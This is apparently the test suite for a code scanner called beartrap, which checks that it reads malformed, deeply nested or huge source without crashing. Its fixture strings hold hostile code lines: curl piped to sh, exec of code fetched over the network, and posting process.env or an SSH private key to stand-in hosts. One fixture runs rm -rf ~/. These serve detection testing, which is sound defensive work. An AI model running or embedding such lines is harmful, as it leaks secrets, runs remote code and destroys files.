"""Source that is made to break its reader: a gap or a finding, never a crash, never silence."""

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from source_lab import KINDS, behaviours, look, the

from beartrap.model.coverage import Gap
from beartrap.model.finding import Severity
from beartrap.model.question import Question
from beartrap.vet.behaviour import Behaviour, When
from beartrap.vet.kinds import Kind
from beartrap.vet.sniff import kind_of
from beartrap.vet.source.languages import javascript
from beartrap.vet.source.reading.windows import windows

ENDINGS = sorted(ending for ending in KINDS if ending)
PIECES = [
    "import os\n", "exec(", "eval(", "x = ", "require('child_process')", ".exec(", "'a'", '"', "(", ")", "{", "}", "[", "]", "\n", "\t", "$(", "`", "|", ";", "=>", "function f(a){",
    "def f(a):\n  ", "return ", "\\x41", "<?php ", "end\n", "if x then ", "while true\n", "base64 -d", "\0", "\ud800", "\u202e", "<<EOF\n", "a.b.c", "'+'", "%s", "-enc ", "@", "#",
]  # fmt: skip


@settings(max_examples=150, deadline=None, suppress_health_check=list(HealthCheck))
@given(st.lists(st.sampled_from(PIECES), max_size=40), st.sampled_from(ENDINGS))
def test_any_text_in_any_language_is_read(pieces, ending):
    for one in look(f"a{ending}", "".join(pieces)):
        assert isinstance(one, Behaviour | Gap)


@settings(max_examples=60, deadline=None, suppress_health_check=list(HealthCheck))
@given(st.binary(max_size=400), st.sampled_from(ENDINGS))
def test_any_bytes_are_read(content, ending):
    for one in look(f"a{ending}", content):
        assert isinstance(one, Behaviour | Gap)


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("a.py", "import os\nos.system(" + "(" * 150 + "'id'" + ")" * 150 + ")\n"),
        ("a.py", "import os\nx = " + "-" * 5000 + "1\nos.system('id')\n"),
        ("a.py", "import os\nos.system(" + "+".join(["'i'", "'d'"] * 4000) + ")\n"),
        ("a.js", "require('child_process').exec(" + "[" * 3000 + "]" * 3000 + ")"),
        ("a.js", "eval(" + "+".join(["'a'"] * 20000) + ")"),
        ("a.js", "eval(" + "a?" * 400 + "1" + ":2" * 400 + ")"),
        ("a.js", "if(a){eval(b)}" + "else if(a){eval(b)}" * 600),
        ("a.sh", "eval " + "$(echo " * 400 + "id" + ")" * 400),
        ("a.py", "def f():\n" + "".join(" " * n + "if x:\n" for n in range(1, 99)) + " " * 99 + "exec(x)\n"),
    ],
)
def test_deep_nesting_is_followed_or_told(path, text):
    seen = look(path, text)
    assert any(isinstance(one, Gap) and Question.NEXT in one.questions for one in seen) or any(
        isinstance(one, Behaviour) and one.id in ("process.spawn", "code.evaluate") for one in seen
    )


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("a.py", "x = " + "(" * 150 + "exec(input())" + ",)" * 150),
        ("a.js", "[" * 400 + "eval(atob(x))" + "]" * 400),
        ("a.js", "(function(){" * 300 + "require('child_process').exec('curl http://c.invalid|sh')" + "})()" * 300),
    ],
)
def test_what_nests_too_deeply_is_read_by_itself(path, text):
    seen = look(path, text)
    assert not any(isinstance(one, Gap) for one in seen)
    assert any(isinstance(one, Behaviour) and one.id in ("code.evaluate", "process.piped") for one in seen)


def test_prose_that_passes_for_a_script_is_read_in_time():
    text = "It's `a` (thing) & more > than < that\n" * 4000
    assert look("a.sh", text) is not None


def test_python_that_nobody_can_read_is_a_gap():
    assert any(isinstance(one, Gap) for one in look("a.py", "exec(" + "\x01)(*&^%$ = 5 ]] {{ (( \n" * 40))


def test_python_2_is_read_all_the_same():
    text = "import urllib2\nprint 'x'\nexec urllib2.urlopen('http://192.0.2.1/a').read()\n"
    assert the("a.py", text, "chain.network-to-code").place.row == 3


def test_prose_with_examples_that_act_holds_nothing_up_and_a_script_that_does_not_parse_does():
    text = "5 minutes, 3x as fast: it's a [tool](x)!\n\n" * 9 + "from tool import run\nimport os\nos.system(run())\n"
    (prose,) = (one for one in look("README.md", text, kind=Kind.PYTHON) if isinstance(one, Gap))
    (script,) = (one for one in look("tool.py", text) if isinstance(one, Gap))
    assert not prose.questions and Question.NEXT in script.questions


@pytest.mark.parametrize(("path", "first", "holds"), [("notes.mine", "", False), ("notes.py", "", True), ("notes.mine", "#!/usr/bin/env python\n", True)])  # fmt: skip
def test_what_only_looks_like_a_script_and_does_not_parse_is_none(path: str, first: str, holds: bool) -> None:
    text = first + "import os\n\nIt isn't run, don't (worry: os.system('ls')\n" * 9
    (gap,) = (one for one in look(path, text, kind=Kind.PYTHON) if isinstance(one, Gap))
    assert bool(gap.questions) is holds


def test_another_language_that_looks_like_python_holds_nothing_up():
    text = (
        "// © its authors\nimport Foundation\nlet found = try await session.exec(request)\nfunc run() { exec(found) }\n"
    )
    assert kind_of("Loader.swift", text.encode()) is Kind.PYTHON
    (swift,) = (one for one in look("Loader.swift", text, kind=Kind.PYTHON) if isinstance(one, Gap))
    (odd,) = (one for one in look("Loader.py", text, kind=Kind.PYTHON) if isinstance(one, Gap))
    assert not swift.questions and Question.NEXT in odd.questions
    code = "import os\nimport urllib.request\nexec(urllib.request.urlopen('http://192.0.2.1/a').read())\n"
    found = (one for one in look("Loader.swift", code, kind=Kind.PYTHON) if isinstance(one, Behaviour))
    assert "chain.network-to-code" in {one.id for one in found}


@pytest.mark.parametrize(
    "call",
    [
        "struct.unpack('>4s4s', b'short')",
        "struct.pack('>H', 70000)",
        "struct.calcsize('?!')",
        "int('x', 99)",
        "bytes(-1)",
    ],
)
def test_what_a_program_would_fail_at_is_no_reason_to_fail(call):
    assert not [one for one in look("a.py", f"import struct\nx = {call}\n") if isinstance(one, Gap)]


@pytest.mark.parametrize(
    "text",
    [
        "export { a, /* b */, c as d };",
        "export { as };",
        "export { , };",
        "export { 'x' as y };",
        "export { c as null };",
    ],
)
def test_a_list_of_exports_that_lacks_a_name_is_read(text):
    for read in (javascript.read, javascript.read_typescript):
        assert read(f"const a = 1, c = 2;\n{text}\n") is not None


def test_names_that_are_no_utf_8_are_kept():
    raw = b"import os\nos.system('id')  # \xff\xfe\n"
    assert the("a.py", raw, "process.spawn").severity is Severity.LOW


def test_doubling_in_a_loop_ends():
    text = "import os\nx = 'a'\nwhile True:\n    x = x + x\nos.system(x)\n"
    assert behaviours("a.py", text)
    behaviours(
        "a.py",
        "exec('a' * 10 ** 12)\nexec('%999999999d' % 1)\nexec(9 ** 9 ** 9 ** 9)\nexec(bytes(10 ** 12))\nexec('{:>999999999}'.format(1))",
    )


def test_functions_that_call_each_other_end():
    text = "".join(
        f"def f{n}(a):\n    f{(n + 1) % 40}(a); f{(n + 7) % 40}(a); f{(n + 13) % 40}([a])\n" for n in range(40)
    )
    assert behaviours("a.py", text + "f0(1)\nexec(f1(2))\n")


def test_a_payload_in_a_large_bundle_is_found_with_its_line():
    filler = b"".join(b"function a%d(b){return b+%d}\n" % (n, n) for n in range(120_000))
    half = len(filler) // 2
    cut = filler.index(b"\n", half) + 1
    payload = b"fetch('https://c.invalid',{method:'POST',body:JSON.stringify(process.env)});\n"
    content = filler[:cut] + payload + filler[cut:]
    one = the("dist/bundle.js", content, "chain.environment-to-network")
    assert abs(one.place.row - (filler[:cut].count(b"\n") + 1)) <= 1 and one.when is When.IMPORT
    assert not windows(filler)[0]


def test_a_hundred_megabytes_are_told():
    gaps = [one for one in look("a.js", b"var a=1;" * (100 * 1024 * 1024 // 8)) if isinstance(one, Gap)]
    assert gaps and Question.NEXT in gaps[0].questions


def test_comments_that_tell_scanners_to_look_away_are_ignored():
    text = "import os  # nosec\n# beartrap: ignore\nos.system('curl https://c.invalid | sh')  # noqa: S605 # type: ignore\n"
    assert the("a.py", text, "process.piped").severity is Severity.CRITICAL


def test_the_same_act_in_another_place_has_the_same_key():
    one = the(
        "a.py",
        "import requests\nrequests.post('https://c.invalid/v1', data=open('/root/.ssh/id_rsa').read())",
        "chain.credentials-to-network",
    )
    other = the(
        "b/c.py",
        "\n\nimport requests as r\nk = open('/root/.ssh/id_rsa')\nr.post('https://c.invalid/v2', json={'k': k.read()})",
        "chain.credentials-to-network",
    )
    assert one.key == other.key and one.place.row != other.place.row


def test_a_packages_own_tests_weigh_little():
    text = "import os\ndef test_it():\n    os.system('rm -rf ~/')\n"
    assert the("tests/test_a.py", text, "destroy.files").severity is Severity.LOW
    assert the("p/a.py", text, "destroy.files").severity is Severity.HIGH


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("a.py", "def f(:\n"),
        ("a.py", "x = " + "(" * 200_000 + "1" + ")" * 200_000),
        ("a.js", "if (x) {\n" * 20_000 + "}" * 20_000),
    ],
)
def test_what_is_no_readable_code_and_names_nothing_that_acts_is_told_and_holds_nothing_up(path, text):
    (gap,) = look(path, text)
    assert isinstance(gap, Gap)
    assert gap.questions == ()


@pytest.mark.parametrize(("path", "text"), [("a.py", "x = [[1]]\n"), ("a.js", "x = [[[1], {a: [2]}]]")])
def test_readable_code_that_names_nothing_that_acts_says_nothing(path, text):
    assert look(path, text) == []
